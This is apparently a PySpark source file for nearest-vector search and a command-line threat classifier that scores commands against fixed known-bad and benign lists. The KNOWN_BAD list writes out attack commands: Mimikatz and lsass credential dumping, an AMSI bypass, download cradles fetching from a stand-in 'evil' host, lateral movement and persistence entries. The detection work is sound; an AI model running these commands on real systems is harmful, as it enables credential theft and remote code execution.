"""Nearest vectors of a stated query set."""

from __future__ import annotations

from collections.abc import Iterator

import numpy as np
import pyarrow as pa
from pyspark.sql import DataFrame
from pyspark.sql import Window as W
from pyspark.sql import functions as F
from pyspark.sql import types as T

#: Query vectors sent to the tasks at once; more of them are searched in blocks.
BLOCK = 4_096
#: Stored vectors compared at a time.
STEP = 2_048
#: Places that similarities are rounded to before they are ranked, so that ties are ties.
PLACES = 9


def _unit(rows: list) -> dict[int, tuple[np.ndarray, np.ndarray]]:
    """Per length the places of the vectors and the vectors divided by their norms; a norm of 0 gives zeros."""
    sizes = np.array([len(r) if r is not None else 0 for r in rows])
    out = {}
    for size in np.unique(sizes[sizes > 0]).tolist():
        at = np.flatnonzero(sizes == size)
        m = np.array([rows[i] for i in at], np.float64)
        norm = np.sqrt((m * m).sum(1, keepdims=True))
        out[size] = at, np.divide(m, norm, out=np.zeros_like(m), where=norm > 0)
    return out


def knn_dense(vectors: DataFrame, queries: DataFrame, k: int = 5, id_col: str = "vec_id", vector: str = "embedding") -> DataFrame:
    """Per query id its k most similar stored vectors by cosine: query_id, rank, neighbour_id, similarity.

    A query is not its own neighbour. Vectors of different lengths, nulls and zero vectors have
    similarity 0; of equal similarities the lesser id comes first. Tasks keep k rows a query for
    each step of stored vectors, and the ranks drop all but k of these before the shuffle.
    """
    kind = vectors.schema[id_col].dataType
    schema = T.StructType([T.StructField("query_id", kind), T.StructField("neighbour_id", kind), T.StructField("similarity", T.DoubleType())])
    asked = queries.select(F.col(id_col).alias("_id"), F.col(vector).alias("_v")).where("_id is not null")
    blocks = max(1, -(-asked.count() // BLOCK))
    stored, found = vectors.select(F.col(id_col).alias("_id"), F.col(vector).alias("_v")), None
    for block in range(blocks):
        rows = asked.where(F.pmod(F.xxhash64("_id"), F.lit(blocks)) == block).collect()
        sent = vectors.sparkSession.sparkContext.broadcast(([r[0] for r in rows], _unit([r[1] for r in rows])))
        part = stored.mapInArrow(_search(sent, k, schema), schema)
        found = part if found is None else found.unionByName(part)
    order = W.partitionBy("query_id").orderBy(F.desc("similarity"), "neighbour_id")
    return found.withColumn("rank", F.row_number().over(order)).where(F.col("rank") <= k).select("query_id", "rank", "neighbour_id", "similarity")


def _search(sent, k: int, schema: T.StructType):
    from pyspark.sql.pandas.types import to_arrow_schema

    arrow = to_arrow_schema(schema)

    def run(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        ids, asked = sent.value
        for batch in batches:
            for begin in range(0, batch.num_rows, STEP):
                part = batch.slice(begin, STEP)
                keys = part.column(0).to_pylist()
                live = [i for i, x in enumerate(keys) if x is not None]
                live.sort(key=keys.__getitem__)  # a stable sort by similarity then keeps the lesser id first
                near = np.zeros((len(ids), len(live)))
                values = part.column(1).to_pylist()
                for size, (at, m) in _unit([values[i] for i in live]).items():
                    if size in asked:
                        near[np.ix_(asked[size][0], at)] = asked[size][1] @ m.T
                near = near.round(PLACES) + 0.0
                best = np.argsort(-near, axis=1, kind="stable")[:, : k + 1]
                got = []
                for q, row in enumerate(best.tolist()):
                    got += [(ids[q], keys[live[j]], float(near[q, j])) for j in row if keys[live[j]] != ids[q]][:k]
                columns = list(zip(*got)) or [()] * 3
                yield pa.RecordBatch.from_arrays([pa.array(c, type=f.type) for c, f in zip(columns, arrow)], schema=arrow)

    return run


#: Commands known to be bad with their family, and common benign ones.
KNOWN_BAD = (
    ("mimikatz.exe sekurlsa::logonpasswords", "credential-access"),
    ("Invoke-Mimikatz -DumpCreds", "credential-access"),
    ("procdump.exe -ma lsass.exe out.dmp", "credential-access"),
    ("rundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full", "credential-access"),
    ("lsadump::dcsync /user:krbtgt", "credential-access"),
    ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "defense-evasion"),
    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "defense-evasion"),
    ("powershell -w hidden -ep bypass -c IEX(New-Object Net.WebClient)", "execution"),
    ("IEX (New-Object Net.WebClient).DownloadString('http://evil/a.ps1')", "download-cradle"),
    ("certutil.exe -urlcache -split -f http://evil/x.exe", "download-cradle"),
    ("bitsadmin /transfer job http://evil/x.exe c:\\x.exe", "download-cradle"),
    ("mshta.exe http://evil/a.hta", "proxy-execution"),
    ("regsvr32 /s /i:http://evil/x.sct scrobj.dll", "proxy-execution"),
    ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', "proxy-execution"),
    ("wmic /node:victim process call create cmd.exe", "lateral-movement"),
    ("psexec \\\\victim -s cmd.exe", "lateral-movement"),
    ("schtasks /create /sc minute /tn evil /tr c:\\m.exe /ru system", "persistence"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\m.exe", "persistence"),
)
BENIGN = (
    "ipconfig /all", "git status", "python3 manage.py runserver", "ping 8.8.8.8", "powershell Get-Process", "cmd /c dir C:\\temp", "whoami", "tasklist",
    "net use Z: \\\\fileserver\\share", "curl https://api.internal/health", "robocopy C:\\a C:\\b /MIR", "code .", "explorer.exe", "sc query spooler",
    "powershell Get-Service", "reg query HKLM\\Software",
)
#: Fixed value: similarity from which a command counts as like a known one.
SIMILAR = 0.30


def known_bad(sparse: DataFrame, embed, k: int = 5) -> tuple[DataFrame, DataFrame]:
    """Commands (sparse rows text, idx, w) against the two fixed lists, which are broadcast.

    Returns the k nearest bad ones (text, rank, corpus_id, label, score), and per text the
    greatest scores, whether it is like a bad one, its family and its novelty. embed: gives the
    sparse rows of a table of texts.
    """
    spark = sparse.sparkSession
    rows = [(i, t, label) for i, (t, label) in enumerate(KNOWN_BAD)] + [(len(KNOWN_BAD) + i, t, None) for i, t in enumerate(BENIGN)]
    corpus = spark.createDataFrame(rows, "corpus_id int, text string, label string")
    known = F.broadcast(corpus.join(embed(corpus), "text").select("corpus_id", "label", "idx", F.col("w").alias("c")))
    met = sparse.join(known, "idx").groupBy("text", "corpus_id", "label").agg(F.sum(F.col("w") * F.col("c")).alias("score"))
    texts = sparse.select("text").distinct()
    each = F.inline(F.array(*(F.struct(F.lit(i).alias("corpus_id"), F.lit(label).cast("string").alias("label")) for i, _, label in rows)))
    scores = texts.select("text", each).join(met.drop("label"), ["text", "corpus_id"], "left")
    scores = scores.withColumn("score", F.round(F.coalesce("score", F.lit(0.0)), PLACES))
    bad = scores.where("label is not null")
    near = bad.withColumn("rank", F.row_number().over(W.partitionBy("text").orderBy(F.desc("score"), "corpus_id"))).where(F.col("rank") <= k)
    per = scores.groupBy("text").agg(
        F.max(F.when(F.col("label").isNotNull(), F.col("score"))).alias("bad_score"), F.max(F.when(F.col("label").isNull(), F.col("score"))).alias("benign_score"),
        F.max_by("label", F.when(F.col("label").isNotNull(), F.struct("score", -F.col("corpus_id")))).alias("_label"),
    )
    per = per.withColumns({"like_bad": F.col("bad_score") >= SIMILAR, "family": F.when(F.col("bad_score") >= SIMILAR, F.col("_label")), "novelty": 1 - F.col("benign_score")})
    return near.select("text", "rank", "corpus_id", "label", "score"), per.drop("_label")


#: Stored postings are copied so many times, so that a slot that many vectors share is
#: spread over as many groups.
SALTS = 16
#: Similarities are sums of rounded products: bounds are lowered by this much.
SLACK = 1e-9


def _prefix(vectors: DataFrame, order: DataFrame, least: float) -> DataFrame:
    """Adds `prefix`: the slots of a unit vector, rarest first, up to where the rest is too
    short (its norm below `least`) to reach the similarity alone.

    order: one row with the map `n`, slot to number of stored vectors.
    """
    ranked = F.array_sort(F.transform("slots", lambda x: F.struct(F.coalesce(F.element_at("n", x["idx"]), F.lit(0)).alias("n"), x["idx"].alias("idx"), x["w"].alias("w"))))
    rows = vectors.crossJoin(F.broadcast(order)).withColumn("_r", ranked)
    start = F.struct(F.lit(0.0).alias("square"), F.lit(0).alias("spare"))
    tail = F.aggregate(
        F.reverse("_r"), start,
        lambda a, x: F.struct((a["square"] + x["w"] * x["w"]).alias("square"), (a["spare"] + (F.sqrt(a["square"] + x["w"] * x["w"]) < least - SLACK).cast("int")).alias("spare")),
        lambda a: a["spare"],
    )
    return rows.withColumn("prefix", F.slice(F.transform("_r", lambda x: x["idx"]), F.lit(1), F.size("_r") - tail)).drop("_r", "n")


def similar(asked: DataFrame, stored: DataFrame, least: float) -> DataFrame:
    """Pairs (text, other, similarity) of unit vectors with a similarity of `least` or more.

    asked, stored: (text, slots), distinct texts. Two vectors that similar share a slot that
    is in the prefix of both: the prefix that ends first in the common order leaves its
    vector a rest too short to make up the similarity. So only prefixes are joined, and the
    pairs found are verified with whole vectors. Texts go by digests until the end.
    """
    keyed = [v.withColumn("_k", F.unhex(F.sha2("text", 256))) for v in (asked, stored)]
    counts = stored.select(F.explode("slots.idx").alias("idx")).groupBy("idx").agg(F.count("*").cast("int").alias("n"))
    order = counts.agg(F.map_from_entries(F.collect_list(F.struct("idx", "n"))).alias("n"))
    mine, theirs = (_prefix(v.select("_k", "slots"), order, least) for v in keyed)
    mine = mine.select(F.col("_k").alias("_a"), F.explode("prefix").alias("idx"), F.pmod(F.xxhash64("_k"), F.lit(SALTS)).alias("_salt"))
    theirs = theirs.select(F.col("_k").alias("_b"), F.explode("prefix").alias("idx")).withColumn("_salt", F.explode(F.sequence(F.lit(0).cast("long"), F.lit(SALTS - 1).cast("long"))))
    pairs = mine.join(theirs, ["idx", "_salt"]).select("_a", "_b").distinct()
    left, right = (v.select(F.col("_k").alias(k), F.col("text").alias(t), F.map_from_entries("slots").alias(m)) for v, k, t, m in zip(keyed, ("_a", "_b"), ("text", "other"), ("_x", "_y")))
    dot = F.aggregate(F.map_entries("_x"), F.lit(0.0), lambda a, e: a + e["value"] * F.coalesce(F.element_at("_y", e["key"]), F.lit(0.0)))
    found = pairs.join(left, "_a").join(right, "_b").select("text", "other", F.round(dot, PLACES).alias("similarity"))
    return found.where(F.col("similarity") >= least)


def fewshot(commands: DataFrame, feedback: DataFrame, out: DataFrame, embedded, k: int = 3, least_trust: float = 0.9, least: float = 0.45) -> DataFrame:
    """Per command (column commandline) its k most similar trusted, labelled feedback ids that
    are not disputed (out: their ids): commandline, rank, id, label, corrected_severity, similarity.

    Distinct commands of both sides are joined by similarity; embedded gives the vectors
    (text, slots) of a table's commandline.
    """
    good = feedback.where((F.col("trust") >= least_trust) & F.col("label").isNotNull()).join(out.select("id"), "id", "left_anti")
    good = good.groupBy("id").agg(F.min_by(F.struct("commandline", "label", "corrected_severity", "seq"), "seq").alias("f")).select("id", "f.*")
    near = similar(embedded(commands.select("commandline")), embedded(good.select("commandline")), least)
    found = near.select(F.col("text").alias("command"), F.col("other").alias("commandline"), "similarity").join(good.fillna("", ["commandline"]), "commandline")
    order = W.partitionBy("command").orderBy(F.desc("similarity"), "seq", "id")
    ranked = found.withColumn("rank", F.row_number().over(order)).where(F.col("rank") <= k)
    return ranked.select(F.col("command").alias("commandline"), "rank", "id", "label", "corrected_severity", "similarity")
